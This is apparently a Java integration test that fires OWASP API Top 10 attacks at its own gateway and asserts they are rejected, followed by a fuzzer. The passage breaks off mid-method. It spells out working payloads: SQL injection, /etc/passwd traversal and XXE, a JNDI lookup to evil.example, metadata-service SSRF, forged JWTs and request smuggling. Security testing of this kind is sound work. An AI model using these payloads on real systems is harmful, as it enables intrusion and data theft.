package io.syncline.e2e.attacks;

import static org.assertj.core.api.Assertions.assertThat;

import com.nimbusds.jose.JWSAlgorithm;
import com.nimbusds.jose.JWSHeader;
import com.nimbusds.jose.jwk.RSAKey;
import com.nimbusds.jwt.JWTClaimsSet;
import io.syncline.e2e.FakeIssuer;
import io.syncline.e2e.SyncCluster;
import io.syncline.model.credential.TokenHash;
import java.io.IOException;
import java.net.URI;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Base64;
import java.util.Date;
import java.util.List;
import java.util.Random;
import java.util.Set;
import java.util.concurrent.ConcurrentLinkedQueue;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import org.awaitility.Awaitility;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.DynamicContainer;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestFactory;
import org.junit.jupiter.api.io.TempDir;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

/** Attacks on a whole site, sorted as the OWASP API Security Top 10 of 2023; then 100,000 requests that are none. */
class AttacksIT {

    private static final String API = "/phoenix_kit/sync/api/";
    private static final int FUZZED = 100_000;
    private static final long SEED = 20_260_101L;
    private static final int FUZZERS = 8;

    @TempDir static Path directory;

    private static SyncCluster cluster;
    private static FakeIssuer issuer;
    private static SyncCluster.Gateway gateway;
    private static int port;

    private static String victim;
    private static String victimHash;
    private static String other;
    private static String otherHash;
    private static String suspendedHash;
    private static String receiverHash;
    private static String viewer;
    private static String auditor;
    private static String issued;
    private static String operator;
    private static String stateBefore;

    /**
     * @param what    is tried
     * @param allowed what it may get
     */
    private record Attack(String what, String request, Set<Integer> allowed) {}

    @BeforeAll
    static void start() throws Exception {
        cluster = SyncCluster.start(directory);
        cluster.startWorker();
        issuer = new FakeIssuer();
        // As many passwords at once as there are callers: nobody is told that too many wait already, however slow it goes.
        gateway = cluster.startGateway(Stream.concat(Stream.of("--syncline.gateway.password-checks=" + FUZZERS),
                Arrays.stream(issuer.settings())).toArray(String[]::new));
        port = URI.create(gateway.base()).getPort();
        Awaitility.await()
                .atMost(Duration.ofMinutes(2))
                .until(() -> gateway.admin("PATCH", "/settings",
                        "{\"enabled\":true,\"incoming_mode\":\"require_password\",\"incoming_password\":\"the-incoming-password\"}")
                        .statusCode() == 200);
        JsonNode made = sender("http://victim.example", "");
        victim = made.path("uuid").asString();
        victimHash = TokenHash.ofToken(made.path("auth_token").asString()).text();
        JsonNode second = sender("http://other.example", ",\"allowed_tables\":[\"nothing_here\"]");
        other = second.path("uuid").asString();
        otherHash = TokenHash.ofToken(second.path("auth_token").asString()).text();
        JsonNode third = sender("http://suspended.example", "");
        suspendedHash = TokenHash.ofToken(third.path("auth_token").asString()).text();
        json(gateway.admin("POST", "/connections/" + third.path("uuid").asString() + "/suspend", "{\"reason\":\"r\"}"));
        receiverHash = TokenHash.ofToken("token-of-the-registered").text();
        json(gateway.call("register-connection", """
                {"sender_url":"http://registered.example","connection_name":"R","auth_token":"token-of-the-registered",
                "password":"the-incoming-password"}"""));
        viewer = appoint("viewer");
        auditor = appoint("auditor");
        issued = issuer.token("fuzz", "syncline-viewer");
        operator = appoint("operator");
        stateBefore = state();
    }

    @AfterAll
    static void stop() throws Exception {
        issuer.close();
        cluster.close();
    }

    private static JsonNode json(HttpResponse<String> response) {
        assertThat(response.statusCode()).as(response.body()).isBetween(200, 299);
        return JsonMapper.shared().readTree(response.body());
    }

    private static JsonNode sender(String site, String more) {
        return json(gateway.admin("POST", "/connections",
                "{\"direction\":\"sender\",\"name\":\"S\",\"status\":\"active\",\"site_url\":\"" + site + "\"" + more
                        + "}"));
    }

    private static String appoint(String role) {
        return json(gateway.admin("POST", "/operators", "{\"name\":\"a-" + role + "\",\"role\":\"" + role + "\"}"))
                .path("token")
                .asString();
    }

    /** Settings, operators, and every connection: what no attack may change. */
    private static String state() {
        return gateway.admin("GET", "/settings", null).body() + gateway.admin("GET", "/operators", null).body()
                + gateway.admin("GET", "/connections?limit=500", null).body();
    }

    // ---- requests

    private static String peer(String call, String json) {
        return post(API + call, "", json);
    }

    private static String post(String path, String headers, String json) {
        return with("POST", path, "Content-Type: application/json\r\n" + headers, json);
    }

    private static String with(String method, String path, String headers, String body) {
        return method + " " + path + " HTTP/1.1\r\nHost: attacked.example\r\n" + headers + "Content-Length: "
                + body.getBytes(StandardCharsets.UTF_8).length + "\r\n\r\n" + body;
    }

    private static String get(String path, String headers) {
        return "GET " + path + " HTTP/1.1\r\nHost: attacked.example\r\n" + headers + "\r\n";
    }

    private static String as(String token, String method, String path, String json) {
        return with(method, "/admin/api" + path,
                "Authorization: Bearer " + token + "\r\n"
                        + (json.isEmpty() ? "" : "Content-Type: application/json\r\n"),
                json);
    }

    private static String hash(String call, String hash, String more) {
        return peer(call, "{\"auth_token_hash\":\"" + hash + "\"" + more + "}");
    }

    private static Attack attack(String what, String request, Integer... allowed) {
        return new Attack(what, request, Set.of(allowed));
    }

    private static String site(String call, String url, String hash, String more) {
        return peer(call, "{\"sender_url\":\"" + url + "\",\"auth_token_hash\":\"" + hash + "\"" + more + "}");
    }

    private static List<Attack> objectLevelAuthorization() {
        return List.of(
                attack("verify another site's record with one's own hash",
                        site("verify-connection", "http://victim.example", otherHash, ""), 404),
                attack("delete another site's record with one's own hash",
                        site("delete-connection", "http://victim.example", otherHash, ""), 404),
                attack("suspend another site's record with one's own hash",
                        site("update-status", "http://registered.example", otherHash, ",\"status\":\"suspended\""),
                        404),
                attack("revoke a sender record of ours as its receiver",
                        site("update-status", "http://victim.example", victimHash, ",\"status\":\"revoked\""), 404),
                attack("lift what our operator imposed",
                        site("update-status", "http://suspended.example", suspendedHash, ",\"status\":\"active\""),
                        404),
                attack("name a site with another case",
                        site("verify-connection", "HTTP://VICTIM.EXAMPLE", victimHash, ""),
                        404),
                attack("name a site with a slash more",
                        site("delete-connection", "http://victim.example/", victimHash, ""), 404),
                attack("a connection by its UUID instead of its hash",
                        hash("list-tables", victim, ""), 401),
                attack("another connection's UUID as an operator's subject without a token",
                        get("/admin/api/connections/" + victim, ""), 401),
                attack("a table that is not allowed for this connection",
                        hash("pull-data", otherHash, ",\"table_name\":\"orders\""), 404),
                attack("a table with secrets",
                        hash("pull-data", victimHash, ",\"table_name\":\"phoenix_kit_user_tokens\""),
                        404),
                attack("our own tables", hash("pull-data", victimHash, ",\"table_name\":\"syncline.connection\""),
                        404));
    }

    private static List<Attack> authentication() {
        return List.of(attack("no hash", hash("list-tables", "", ""), 400),
                attack("the empty text's hash", hash("list-tables", TokenHash.ofToken("").text(), ""), 401),
                attack("a hash in upper case", hash("list-tables", victimHash.toUpperCase(java.util.Locale.ROOT), ""),
                        401),
                attack("a hash with a space behind it", hash("list-tables", victimHash + " ", ""), 401),
                attack("half a hash", hash("list-tables", victimHash.substring(0, 32), ""), 401),
                attack("a hash's own hash", hash("list-tables", TokenHash.ofToken(victimHash).text(), ""), 401),
                attack("true instead of a hash", peer("list-tables", "{\"auth_token_hash\":true}"), 400),
                attack("a list of hashes", peer("list-tables", "{\"auth_token_hash\":[\"" + victimHash + "\"]}"), 400),
                attack("an object that matches anything", peer("list-tables", "{\"auth_token_hash\":{\"$ne\":null}}"),
                        400),
                attack("null", peer("list-tables", "{\"auth_token_hash\":null}"), 400),
                attack("a hash twice, the second one right",
                        peer("list-tables", "{\"auth_token_hash\":\"x\",\"auth_token_hash\":\"" + victimHash + "\"}"),
                        400),
                attack("a suspended connection's hash", hash("list-tables", suspendedHash, ""), 403),
                attack("the hash of a receiver record, which pulls nothing", hash("list-tables", receiverHash, ""),
                        401),
                attack("register without the password", peer("register-connection",
                        "{\"sender_url\":\"http://new.example\",\"connection_name\":\"N\",\"auth_token\":\"t\"}"), 401),
                attack("register with another password", peer("register-connection",
                        "{\"sender_url\":\"http://new.example\",\"connection_name\":\"N\",\"auth_token\":\"t\",\"password\":\"x\"}"),
                        401),
                attack("register with a password that is a number", peer("register-connection",
                        "{\"sender_url\":\"http://new.example\",\"connection_name\":\"N\",\"auth_token\":\"t\",\"password\":1}"),
                        400),
                attack("register again for a site that is registered", peer("register-connection",
                        "{\"sender_url\":\"http://registered.example\",\"connection_name\":\"N\",\"auth_token\":\"mine\","
                                + "\"password\":\"the-incoming-password\"}"),
                        409),
                attack("a peer's hash as an operator's token", as(victimHash, "GET", "/settings", ""), 401),
                attack("no scheme",
                        with("GET", "/admin/api/settings", "Authorization: " + SyncCluster.ADMIN_TOKEN + "\r\n",
                                ""),
                        401),
                attack("another scheme",
                        with("GET", "/admin/api/settings", "Authorization: Basic " + SyncCluster.ADMIN_TOKEN + "\r\n",
                                ""),
                        401),
                attack("a token in the query", get("/admin/api/settings?access_token=" + SyncCluster.ADMIN_TOKEN, ""),
                        401),
                attack("a token that only begins right",
                        as(SyncCluster.ADMIN_TOKEN.substring(0, 10), "GET", "/settings", ""), 401),
                attack("a token of which no signature is asked",
                        as("eyJhbGciOiJub25lIn0.eyJzdWIiOiJhZG1pbiIsInJvbGVzIjpbIm9wZXJhdG9yIl19.", "GET", "/settings",
                                ""),
                        401));
    }

    private static List<Attack> issuedTokens() {
        JWTClaimsSet claims = issuer.claims("mallory", "syncline-operator").build();
        RSAKey own = FakeIssuer.newKey(issuer.key().getKeyID());
        JWSHeader plain = new JWSHeader.Builder(JWSAlgorithm.RS256).keyID(own.getKeyID()).build();
        String genuine = issuer.token("mallory", "syncline-viewer");
        String signature = genuine.substring(genuine.lastIndexOf('.'));
        String elsewhere = "http://127.0.0.1:" + port + "/keys";
        return List.of(change("a token without signature", FakeIssuer.unsigned(claims), 401),
                change("alg none in other letters",
                        base64("{\"alg\":\"nOnE\"}") + "." + base64(claims.toString()) + ".", 401),
                change("HS256 with the public key as the secret", issuer.signedWithThePublicKey(claims), 401),
                change("a key of one's own under the issuer's key id", FakeIssuer.signed(claims, own), 401),
                change("a key of one's own, brought along",
                        FakeIssuer.signed(new JWSHeader.Builder(plain).jwk(own.toPublicJWK()).build(), claims, own),
                        401),
                change("a key of one's own, to be fetched",
                        FakeIssuer.signed(new JWSHeader.Builder(plain).jwkURL(URI.create(elsewhere)).build(), claims,
                                own),
                        401),
                change("a key id that is a path",
                        FakeIssuer.signed(claims, new RSAKey.Builder(own).keyID("../../../dev/null").build()), 401),
                change("other claims under a genuine signature",
                        genuine.substring(0, genuine.indexOf('.')) + "." + base64(claims.toString()) + signature, 401),
                change("the genuine signature taken away", genuine.substring(0, genuine.lastIndexOf('.') + 1), 401),
                change("an extension that must be understood",
                        FakeIssuer.signed(new JWSHeader.Builder(JWSAlgorithm.RS256).keyID(own.getKeyID())
                                .criticalParams(Set.of("x"))
                                .customParam("x", 1)
                                .build(), claims, issuer.key()),
                        401),
                change("claims nested beyond all depth",
                        base64("{\"alg\":\"RS256\"}") + "." + base64("{\"iss\":" + "[".repeat(5_000)) + signature, 401),
                change("a token for another program",
                        issuer.signed(new JWTClaimsSet.Builder(claims).audience("another").build()), 401),
                change("a token of last year",
                        issuer.signed(new JWTClaimsSet.Builder(claims).expirationTime(new Date(1_000_000_000_000L))
                                .build()),
                        401),
                change("a viewer's token", genuine, 403),
                attack("an issued operator makes operators", as(issuer.token("mallory", "syncline-operator"), "POST",
                        "/operators", "{\"name\":\"mallory\",\"role\":\"operator\"}"), 403));
    }

    private static Attack change(String what, String token, Integer allowed) {
        return attack(what, as(token, "PATCH", "/settings", "{\"enabled\":false}"), allowed);
    }

    private static String base64(String text) {
        return Base64.getUrlEncoder().withoutPadding().encodeToString(text.getBytes(StandardCharsets.UTF_8));
    }

    private static List<Attack> propertyLevelAuthorization() {
        String make = "{\"direction\":\"sender\",\"name\":\"S\",\"site_url\":\"http://mass.example\",";
        return List.of(
                attack("register as active and confirmed", peer("register-connection",
                        "{\"sender_url\":\"http://mass.example\",\"connection_name\":\"N\",\"auth_token\":\"t\","
                                + "\"status\":\"active\",\"direction\":\"sender\",\"uuid\":\"" + victim + "\"}"),
                        401),
                attack("set a fingerprint", as(SyncCluster.ADMIN_TOKEN, "POST", "/connections",
                        make + "\"fingerprint\":\"" + "a".repeat(64) + "\"}"), 400),
                attack("set who made it",
                        as(SyncCluster.ADMIN_TOKEN, "POST", "/connections", make + "\"created_by\":\"x\"}"), 400),
                attack("change the site of a connection",
                        as(operator, "PATCH", "/connections/" + victim, "{\"site_url\":\"http://evil.example\"}"), 400),
                attack("change the status by a field",
                        as(operator, "PATCH", "/connections/" + victim, "{\"status\":\"revoked\"}"), 400),
                attack("change the token by a field",
                        as(operator, "PATCH", "/connections/" + victim, "{\"auth_token\":\"mine\"}"), 400),
                attack("change the operators by the settings",
                        as(operator, "PATCH", "/settings", "{\"operators\":[]}"), 400),
                attack("change the revision of the password",
                        as(operator, "PATCH", "/settings", "{\"password_revision\":0}"), 400),
                attack("the prototype of an object",
                        as(operator, "PATCH", "/settings", "{\"__proto__\":{\"enabled\":false}}"), 400),
                attack("a type name for the parser",
                        as(operator, "PATCH", "/settings", "{\"@class\":\"java.net.URL\",\"val\":\"http://x\"}"), 400));
    }

    private static List<Attack> resourceConsumption() {
        String long2 = "y".repeat(1_100_000);
        return List.of(attack("a body of more than a megabyte", hash("list-tables", long2, ""), 413),
                attack("a body of a gigabyte, announced",
                        "POST " + API + "list-tables HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\n"
                                + "Content-Length: 1073741824\r\n\r\n{",
                        413),
                attack("brackets, a hundred thousand deep", peer("list-tables", "[".repeat(100_000)), 400),
                attack("objects, a hundred thousand deep", peer("list-tables", "{\"a\":".repeat(100_000)), 400),
                attack("a number of half a million digits", peer("list-tables", "{\"x\":" + "9".repeat(500_000) + "}"),
                        400),
                attack("an exponent that fills the memory",
                        hash("table-records", victimHash, ",\"table_name\":\"t\",\"limit\":1e999999999"), 400),
                attack("a limit beyond all numbers",
                        hash("table-records", victimHash, ",\"table_name\":\"t\",\"limit\":\"99999999999999999999\""),
                        400),
                attack("a negative offset", hash("table-records", victimHash, ",\"table_name\":\"t\",\"offset\":-1"),
                        400),
                attack("a hundred thousand ids", hash("table-records", victimHash, ",\"table_name\":\"t\",\"ids\":["
                        + "1,".repeat(99_999) + "1]"), 404),
                attack("a name of a quarter of a megabyte", peer("register-connection",
                        "{\"sender_url\":\"http://x.example\",\"connection_name\":\"" + "n".repeat(250_000)
                                + "\",\"auth_token\":\"t\",\"password\":\"x\"}"),
                        400),
                attack("a URL of ten thousand characters",
                        peer("register-connection", "{\"sender_url\":\"http://x.example/"
                                + "a".repeat(10_000)
                                + "\",\"connection_name\":\"n\",\"auth_token\":\"t\",\"password\":\"x\"}"),
                        400),
                attack("headers without end", get(API + "status", "X-A: b\r\n".repeat(2_000)), 400, 431, 0),
                attack("a header of a hundred kilobytes", get(API + "status", "X-A: " + "b".repeat(100_000) + "\r\n"),
                        400,
                        431, 0),
                attack("a path of fifty kilobytes", get("/" + "a".repeat(50_000), ""), 400, 414, 431, 0),
                attack("a page of all connections", as(viewer, "GET", "/connections?limit=1000000", ""), 400),
                attack("a page of all events", as(auditor, "GET", "/events?limit=-1", ""), 400),
                attack("a cursor of a million partitions", as(auditor, "GET", "/events?cursor="
                        + java.util.Base64.getUrlEncoder()
                                .encodeToString("1:1,".repeat(1_000)
                                        .getBytes(
                                                StandardCharsets.US_ASCII)),
                        ""), 400),
                attack("an overlap of a thousand years",
                        as(operator, "POST", "/connections/" + victim + "/rotate-token",
                                "{\"overlap_seconds\":31536000000}"),
                        400));
    }

    private static List<Attack> functionLevelAuthorization() {
        List<Attack> attacks = new ArrayList<>();
        for (String[] who : new String[][]{{"a viewer", viewer}, {"an auditor", auditor}}) {
            attacks.add(
                    attack(who[0] + " changes the settings", as(who[1], "PATCH", "/settings", "{\"enabled\":false}"),
                            403));
            attacks.add(attack(who[0] + " makes a connection", as(who[1], "POST", "/connections", "{}"), 403));
            attacks.add(
                    attack(who[0] + " deletes a connection", as(who[1], "DELETE", "/connections/" + victim, ""), 403));
            attacks.add(attack(who[0] + " approves",
                    as(who[1], "POST", "/connections/" + victim + "/approve", ""), 403));
            attacks.add(attack(who[0] + " takes a new token",
                    as(who[1], "POST", "/connections/" + victim + "/rotate-token", ""), 403));
        }
        attacks.add(attack("a viewer reads the log", as(viewer, "GET", "/events", ""), 403));
        attacks.add(attack("an operator appoints an operator",
                as(operator, "POST", "/operators", "{\"name\":\"mallory\",\"role\":\"operator\"}"), 403));
        attacks.add(attack("an operator dismisses one", as(operator, "DELETE", "/operators/a-viewer", ""), 403));
        attacks.add(attack("an operator takes the name of the first one",
                as(SyncCluster.ADMIN_TOKEN, "POST", "/operators", "{\"name\":\"admin\",\"role\":\"viewer\"}"), 400));
        attacks.add(attack("another method by a header", with("POST", "/admin/api/connections/" + victim,
                "X-HTTP-Method-Override: DELETE\r\n", ""), 401));
        attacks.add(attack("another path by a header",
                get("/", "X-Original-URL: /admin/api/settings\r\nX-Rewrite-URL: /admin/api/settings\r\n"), 404));
        attacks.add(
                attack("an operator's path around the gate", get("/phoenix_kit/..;/admin/api/settings", ""), 400, 401,
                        404));
        attacks.add(attack("an operator's path with a semicolon", get("/admin/api;x=y/settings", ""), 400, 401, 404));
        attacks.add(attack("an operator's path, encoded", get("/%61dmin/api/settings", ""), 400, 401, 404));
        attacks.add(attack("an operator's path, encoded twice", get("/%2561dmin/api/settings", ""), 400, 404));
        attacks.add(attack("an operator's path in capitals", get("/ADMIN/API/settings", ""), 404));
        attacks.add(attack("an operator's path with two slashes", get("//admin/api/settings", ""), 400, 401, 404));
        return attacks;
    }

    private static List<Attack> businessFlows() {
        return List.of(
                attack("register a site under a URL with a user in it", register("http://user:pass@victim.example"),
                        400),
                attack("register a site without a host", register("http://"), 400),
                attack("register a site of another scheme", register("file:///etc/passwd"), 400),
                attack("register a site by a script", register("javascript:alert(1)"), 400),
                attack("register a relative site", register("//victim.example"), 400),
                attack("register a site with a line break", register("http://a.example\\r\\nX: y"), 400),
                attack("register a site with NUL", register("http://a.example/\\u0000"), 400),
                attack("set a status that there is not",
                        site("update-status", "http://registered.example", receiverHash, ",\"status\":\"expired\""),
                        400),
                attack("set a status in capitals",
                        site("update-status", "http://registered.example", receiverHash, ",\"status\":\"ACTIVE\""),
                        400),
                attack("set a status of another kind",
                        site("update-status", "http://registered.example", receiverHash, ",\"status\":[\"active\"]"),
                        400));
    }

    private static String register(String url) {
        return peer("register-connection", "{\"sender_url\":\"" + url
                + "\",\"connection_name\":\"n\",\"auth_token\":\"t\",\"password\":\"the-incoming-password\"}");
    }

    private static List<Attack> serverSideRequests() {
        return List.of(
                attack("a site on the metadata service, by an odd literal, is called by nobody", peer(
                        "verify-connection",
                        "{\"sender_url\":\"http://169.254.169.254/latest/meta-data\",\"auth_token_hash\":\"x\"}"), 404),
                attack("an absolute request line",
                        "GET http://169.254.169.254/latest/ HTTP/1.1\r\nHost: 169.254.169.254\r\n\r\n", 404, 400),
                attack("a tunnel", "CONNECT 169.254.169.254:80 HTTP/1.1\r\nHost: 169.254.169.254\r\n\r\n", 400, 404,
                        405),
                attack("a receiver that calls back", peer("get-connection-status",
                        "{\"receiver_url\":\"http://127.0.0.1:22\",\"auth_token_hash\":\"x\"}"), 404));
    }

    private static List<Attack> misconfiguration() {
        List<Attack> attacks = new ArrayList<>();
        for (String path : List.of("/actuator/env", "/actuator/heapdump", "/actuator/beans", "/actuator/loggers",
                "/actuator/shutdown", "/actuator/threaddump", "/actuator/configprops", "/.env", "/.git/config",
                "/error",
                "/swagger-ui.html", "/WEB-INF/web.xml", "/console")) {
            attacks.add(attack("is there " + path, get(path, ""), 404));
        }
        attacks.add(attack("TRACE", "TRACE / HTTP/1.1\r\nHost: a\r\nX-Secret: s\r\n\r\n", 400, 404, 405));
        attacks.add(attack("OPTIONS from another origin", with("OPTIONS", API + "pull-data",
                "Origin: http://evil.example\r\nAccess-Control-Request-Method: POST\r\n", ""), 403, 405));
        attacks.add(attack("another content type", with("POST", API + "list-tables",
                "Content-Type: application/xml\r\n",
                "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>"),
                415));
        attacks.add(attack("a form", with("POST", API + "list-tables",
                "Content-Type: application/x-www-form-urlencoded\r\n", "auth_token_hash=x"), 415));
        attacks.add(attack("JSON in UTF-16", with("POST", API + "list-tables",
                "Content-Type: application/json; charset=utf-16\r\n", "{}"), 415));
        attacks.add(attack("two lengths", "POST " + API + "list-tables HTTP/1.1\r\nHost: a\r\nContent-Length: 2\r\n"
                + "Content-Length: 9\r\n\r\n{}GET / H", 400));
        attacks.add(attack("a length and chunks", "POST " + API
                + "list-tables HTTP/1.1\r\nHost: a\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
                411,
                400));
        attacks.add(attack("no host", "GET " + API + "status HTTP/1.1\r\n\r\n", 400));
        attacks.add(attack("a folded header", get(API + "status", "X-A: b\r\n c: d\r\n"), 400, 200));
        attacks.add(attack("a header with a bare carriage return", get(API + "status", "X-A: b\rX-B: c\r\n"), 400));
        return attacks;
    }

    private static List<Attack> injection() {
        return List.of(
                attack("a table by SQL", hash("pull-data", victimHash, ",\"table_name\":\"x; DROP TABLE orders\""),
                        404),
                attack("a table by a quote", hash("pull-data", victimHash, ",\"table_name\":\"\\\" OR 1=1 --\""), 404),
                attack("a table by a path", hash("pull-data", victimHash, ",\"table_name\":\"../../etc/passwd\""), 404),
                attack("a table with NUL", hash("pull-data", victimHash, ",\"table_name\":\"orders\\u0000\""), 404),
                attack("a table of another schema",
                        hash("pull-data", victimHash, ",\"table_name\":\"pg_catalog.pg_authid\""),
                        404),
                attack("a system's table", hash("table-schema", victimHash, ",\"table_name\":\"pg_authid\""), 404),
                attack("a strategy by SQL",
                        hash("pull-data", victimHash, ",\"table_name\":\"t\",\"conflict_strategy\":\"skip'--\""), 400),
                attack("a hash by SQL", hash("list-tables", "' OR '1'='1", ""), 401),
                attack("a site by SQL", site("verify-connection", "' OR ''='", victimHash, ""), 404),
                attack("half of a surrogate pair", site("verify-connection", "\\ud800", victimHash, ""), 400),
                attack("a template", hash("list-tables", "${jndi:ldap://evil.example/x}", ""), 401),
                attack("a format", hash("list-tables", "%n%n%s%x%d", ""), 401),
                attack("a line of the log, made up",
                        hash("list-tables", "x\\n2026-01-01 ERROR all is lost", ""), 401),
                attack("a filter by SQL", as(viewer, "GET", "/connections?site_url=%27%20OR%20%271%27=%271", ""), 200),
                attack("a parameter with NUL", as(viewer, "GET", "/connections?site_url=%00", ""), 400),
                attack("a reason in HTML",
                        as(viewer, "POST", "/connections/" + victim + "/suspend", "{\"reason\":\"<script>\"}"), 403));
    }

    private static List<Attack> inventory() {
        return List.of(attack("another version of the API", peer("../v0/list-tables", "{}"), 400, 404),
                attack("a call that there is not", peer("import-data", "{}"), 404),
                attack("the API without its prefix", post("/sync/api/list-tables", "", "{}"), 404),
                attack("a call with a slash behind it", post(API + "list-tables/", "", "{}"), 404),
                attack("a call with an extension", post(API + "list-tables.json", "", "{}"), 404),
                attack("a call by GET", get(API + "pull-data?auth_token_hash=" + victimHash, ""), 405),
                attack("the status by POST", peer("status", "{}"), 405),
                attack("an operator's call that there is not", as(viewer, "GET", "/users", ""), 404));
    }

    private static List<Attack> unsafeConsumption() {
        return List.of(
                attack("an answer in another type",
                        with("POST", API + "list-tables", "Content-Type: application/json\r\nAccept: text/html\r\n",
                                "{}"),
                        406),
                attack("an address by X-Forwarded-For", with("POST", API + "list-tables",
                        "Content-Type: application/json\r\nX-Forwarded-For: 127.0.0.1, ' OR 1\r\n", "{}"), 400),
                attack("an address by Forwarded", with("POST", API + "list-tables",
                        "Content-Type: application/json\r\nForwarded: for=\"[::1]\"\r\n", "{}"), 400),
                attack("an agent with a line of the log", with("POST", API + "verify-connection",
                        "Content-Type: application/json\r\nUser-Agent: PhoenixKit-Sync/${jndi:ldap://x}\r\n",
                        "{\"sender_url\":\"a\",\"auth_token_hash\":\"b\"}"), 404));
    }

    @TestFactory
    Stream<DynamicContainer> attacks() {
        List<DynamicContainer> all = List.of(
                risk("API1 Broken object level authorization", objectLevelAuthorization()),
                risk("API2 Broken authentication",
                        Stream.concat(authentication().stream(), issuedTokens().stream()).toList()),
                risk("API3 Broken object property level authorization", propertyLevelAuthorization()),
                risk("API4 Unrestricted resource consumption", resourceConsumption()),
                risk("API5 Broken function level authorization", functionLevelAuthorization()),
                risk("API6 Unrestricted access to sensitive business flows", businessFlows()),
                risk("API7 Server side request forgery", serverSideRequests()),
                risk("API8 Security misconfiguration", Stream.concat(misconfiguration().stream(), injection().stream())
                        .toList()),
                risk("API9 Improper inventory management", inventory()),
                risk("API10 Unsafe consumption of APIs", unsafeConsumption()));
        return Stream.concat(all.stream(),
                Stream.of(DynamicContainer.dynamicContainer("and then", Stream.of(DynamicTest.dynamicTest(
                        "nothing has changed", () -> assertThat(state()).isEqualTo(stateBefore))))));
    }

    private static DynamicContainer risk(String name, List<Attack> attacks) {
        return DynamicContainer.dynamicContainer(name,
                attacks.stream().map(attack -> DynamicTest.dynamicTest(attack.what(), () -> tryIt(attack))));
    }

    private static void tryIt(Attack attack) {
        Wire.Answer answer = Awaitility.await("the issuer has answered")
                .atMost(Duration.ofMinutes(1))
                .pollDelay(Duration.ZERO)
                .until(() -> askOnce(attack.request().getBytes(StandardCharsets.UTF_8)),
                        one -> !saysThatTheIssuerIsAway(one));
        assertThat(answer.status()).as(answer.text()).isIn(attack.allowed());
        assertNothingInternal(answer.text());
    }

    private static Wire.Answer askOnce(byte[] request) throws IOException {
        try (Wire wire = new Wire(port)) {
            return wire.askOnce(request);
        }
    }

    /** The issuer has 3 s for its keys: where the machine stands still for so long, this is the right answer. */
    private static boolean saysThatTheIssuerIsAway(Wire.Answer answer) {
        return answer.status() == 503 && answer.text().contains("the keys of its issuer cannot be read now");
    }

    private static void assertNothingInternal(String answer) {
        assertThat(answer).doesNotContain("Exception")
                .doesNotContain("java.")
                .doesNotContain("org.postgresql")
                .doesNotContain("io.syncline")
                .doesNotContain("SELECT ")
                .doesNotContainIgnoringCase("tomcat")
                .doesNotContainIgnoringCase("\nserver:")
                .doesNotContain("\"sealed_token\":")
                .doesNotContain("\"fingerprint\":");
    }

    // ---- requests that are none

    @Test
    void fuzz_neverAFault_neverAHang_healthyAfterwards() throws Exception {
        AtomicInteger sent = new AtomicInteger();
        ConcurrentLinkedQueue<String> faults = new ConcurrentLinkedQueue<>();
        ConcurrentLinkedQueue<Integer> statuses = new ConcurrentLinkedQueue<>();
        long begun = System.nanoTime();
        List<Thread> fuzzers = new ArrayList<>();
        for (int i = 0; i < FUZZERS; i++) {
            Fuzzer fuzzer = new Fuzzer(new Random(SEED + i), FUZZED / FUZZERS, sent, faults, statuses);
            fuzzers.add(Thread.ofVirtual().start(fuzzer));
        }
        for (Thread fuzzer : fuzzers) {
            fuzzer.join();
        }
        System.out.println(sent.get() + " requests in " + Duration.ofNanos(System.nanoTime() - begun).toSeconds()
                + " s: " + statuses.stream()
                        .collect(Collectors.groupingBy(status -> status, java.util.TreeMap::new,
                                Collectors.counting())));
        assertThat(faults).isEmpty();
        assertThat(sent.get()).isEqualTo(FUZZED);
        Awaitility.await("healthy")
                .atMost(Duration.ofMinutes(1))
                .until(() -> gateway.get("/actuator/health/readiness").statusCode() == 200);
        assertThat(gateway.call("list-tables", "{\"auth_token_hash\":\"" + victimHash + "\"}").statusCode())
                .isEqualTo(200);
        assertThat(gateway.admin("GET", "/connections/" + other, null).statusCode()).isEqualTo(200);
    }

    /** Mutates requests that are right, and sends them over connections that are kept while the server keeps them. */
    private static final class Fuzzer implements Runnable {

        private static final List<String> CALLS = List.of("register-connection", "verify-connection", "update-status",
                "delete-connection", "get-connection-status", "list-tables", "table-schema", "table-records",
                "pull-data",
                "status", "", "x", "../status");
        private static final List<String> FIELDS = List.of("sender_url", "connection_name", "auth_token", "password",
                "auth_token_hash", "status", "receiver_url", "table_name", "limit", "offset", "ids", "id_start",
                "id_end",
                "conflict_strategy", "name", "direction", "site_url", "enabled", "incoming_mode", "reason", "");
        private static final List<String> METHODS = List.of("POST", "POST", "POST", "POST", "GET", "PUT", "DELETE",
                "PATCH",
                "HEAD", "OPTIONS", "FOO");
        private static final List<String> ADMIN = List.of("/settings", "/connections", "/connections/x", "/events",
                "/workers", "/tables", "/operators", "/connections?limit=x", "/events?cursor=MTox", "/%", "/..");

        private final Random random;
        private final int count;
        private final AtomicInteger sent;
        private final ConcurrentLinkedQueue<String> faults;
        private final ConcurrentLinkedQueue<Integer> statuses;

        Fuzzer(Random random, int count, AtomicInteger sent, ConcurrentLinkedQueue<String> faults,
                ConcurrentLinkedQueue<Integer> statuses) {
            this.random = random;
            this.count = count;
            this.sent = sent;
            this.faults = faults;
            this.statuses = statuses;
        }

        @Override
        public void run() {
            Wire kept = null;
            try {
                for (int i = 0; i < count; i++) {
                    byte[] request = request();
                    Wire.Answer answer;
                    if (head(request) || random.nextInt(5) == 0) {
                        answer = askOnce(head(request) ? request : mutated(request));
                    } else {
                        kept = kept == null ? new Wire(port) : kept;
                        answer = kept.ask(request);
                        if (!answer.open()) {
                            kept.close();
                            kept = null;
                        }
                    }
                    sent.incrementAndGet();
                    statuses.add(answer.status());
                    boolean fault = answer.status() >= 500 && !saysThatTheIssuerIsAway(answer);
                    if (fault || answer.text().contains("Exception")) {
                        faults.add(answer.text() + " <- " + new String(request, StandardCharsets.ISO_8859_1));
                    }
                }
            } catch (IOException | RuntimeException e) {
